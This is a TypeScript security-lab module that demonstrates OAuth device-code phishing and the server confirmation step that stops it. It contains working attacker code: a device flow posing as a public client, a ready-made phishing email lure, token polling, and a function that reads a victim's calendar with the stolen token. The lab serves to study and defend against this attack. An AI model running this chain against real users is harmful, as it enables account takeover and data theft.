/**
 * Security lab: device-code phishing, with and without the server's confirmation step.
 *
 * The attacker holds a device of their own, or only a script that acts like
 * one: it starts the Device Authorization Grant as "Acme TV", a public client
 * whose client_id anyone can send. The server answers with a user code and a
 * link that carries it (`verification_uri_complete`). The attacker sends that
 * link to the victim with a convincing reason to open it, and polls the token
 * endpoint. The link leads to the real authorization server: the victim signs
 * in on the real page, and nothing in the address looks wrong.
 *
 * Without a confirmation the victim's approval goes to the attacker's device,
 * which gets the victim's tokens and reads their calendar. With it, the server
 * names the client and the code and asks whether the victim started this on a
 * device in front of them; a victim who reads it and answers "No" denies the
 * request, and the attacker's poll gets `access_denied`.
 *
 * @see RFC 8628 §5.4 (remote phishing), §3.3.1 (verification_uri_complete)
 * @see RFC 8628 §3.1-3.5 (the requests the attacker's device sends)
 */
import * as oauth from 'oauth4webapi';
import {
  callApi,
  discover,
  pollForTokens,
  requestDeviceCode,
  type DeviceConfig,
  type Poll,
  type PollingOptions,
} from '../device-authorization';

/**
 * What the attacker's device needs: the server, the public client_id it poses as (RFC 6749 §2.1: the
 * attacker's script can send it too), what it asks for and for which API (RFC 8707 `resource`). The
 * device's requests are the Device Authorization Grant page's own (`../device-authorization`).
 */
export type LabConfig = Omit<DeviceConfig, 'clientSecret' | 'audience'> & {audience: string};

/** How the server answered for good (RFC 8628 §3.5): tokens, or an error that stops the polling. */
export type PollAnswer =
  | {kind: 'tokens'; tokens: oauth.TokenEndpointResponse}
  | {kind: 'refused'; status: number; error: string; error_description?: string};

/** One poll and its answer. */
export type PollRecord = Poll;

/** Fetches the authorization server's metadata (RFC 8414 §3), which names its device_authorization_endpoint. */
export {discover};

/** The message the victim receives: who it claims to be from, and the link it wants opened. */
export interface Lure {
  from: string;
  subject: string;
  body: string;
  link: string;
}

/**
 * The attacker's device asks for a code, exactly as the real TV app would: nothing in the request
 * says who holds the device (RFC 8628 §3.1, the answer §3.2).
 */
export async function startDeviceFlow(
  as: oauth.AuthorizationServer,
  config: LabConfig,
): Promise<oauth.DeviceAuthorizationResponse> {
  return requestDeviceCode(as, config);
}

/**
 * The attacker's message. The link is the server's own `verification_uri_complete`: the code rides
 * in it, so the victim types nothing and never compares a code with a screen (RFC 8628 §5.4).
 */
export function writeLure(authorization: oauth.DeviceAuthorizationResponse, brand: string): Lure {
  const link = authorization.verification_uri_complete ?? authorization.verification_uri;
  const minutes = Math.floor(authorization.expires_in / 60);
  return {
    from: `${brand} <billing@acme-tv.example>`,
    subject: `${brand}: your subscription is paused`,
    body: `We could not confirm your subscription, so ${brand} has paused it on your devices. Sign in within ${minutes} minutes to keep watching: ${link}`,
    link,
  };
}

/**
 * The attacker's device polls, as the real TV app does (the first poll at once, then every `interval`
 * seconds, 5 more after each `slow_down`, RFC 8628 §3.5), until the server answers for good: tokens, or
 * `access_denied` or `expired_token`, which end the wait. `onPoll` sees each answer as it comes.
 */
export async function pollUntilAnswered(
  as: oauth.AuthorizationServer,
  config: LabConfig,
  authorization: Pick<oauth.DeviceAuthorizationResponse, 'device_code' | 'expires_in' | 'interval'>,
  options: PollingOptions = {},
): Promise<PollAnswer> {
  try {
    return {kind: 'tokens', tokens: await pollForTokens(as, config, authorization, options)};
  } catch (error) {
    if (!(error instanceof oauth.ResponseBodyError)) throw error;
    return {
      kind: 'refused',
      status: error.status,
      error: error.error,
      ...(error.error_description ? {error_description: error.error_description} : {}),
    };
  }
}

/** The attacker reads the victim's calendar with the access token its device got (RFC 6750 §2.1). */
export async function readCalendar(
  url: string,
  accessToken: string,
  config: LabConfig,
): Promise<{status: number; sub?: string; events?: number}> {
  const {status, body} = await callApi(url, accessToken, config);
  const answer = body as {caller?: {sub?: string}; events?: unknown[]} | null;
  return {
    status,
    ...(answer?.caller?.sub ? {sub: answer.caller.sub} : {}),
    ...(Array.isArray(answer?.events) ? {events: answer.events.length} : {}),
  };
}
